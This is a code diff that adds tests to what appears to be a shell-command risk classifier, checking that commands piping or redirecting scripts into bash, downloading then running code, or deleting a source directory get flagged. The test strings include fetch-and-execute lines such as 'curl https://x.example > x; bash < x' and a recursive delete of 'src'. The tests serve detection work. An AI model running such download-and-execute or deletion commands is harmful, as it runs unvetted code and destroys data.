@@ -88,3 +88,12 @@ def test_a_shell_bent_back_to_the_terminal() -> None:
 def test_deleting_by_a_relative_path_in_code() -> None:
     assert "deletes-tree" in facts_of("python3 -c \"shutil.rmtree('src')\"")
     assert "deletes-tree" not in facts_of("python3 -c \"shutil.rmtree('build')\"")
+
+
+def test_a_script_on_the_input_is_a_script() -> None:
+    assert "executes-input" not in facts_of("bash < setup.sh")
+    assert "executes-input" in facts_of("bash < /dev/stdin")
+    assert "executes-input" in facts_of("bash < <(generate)")
+    assert "executes-input" in facts_of("generate | bash")
+    assert "executes-download" in facts_of("curl -o x https://x.example; bash x")
+    assert "executes-fetched" in facts_of("curl https://x.example > x; bash < x")
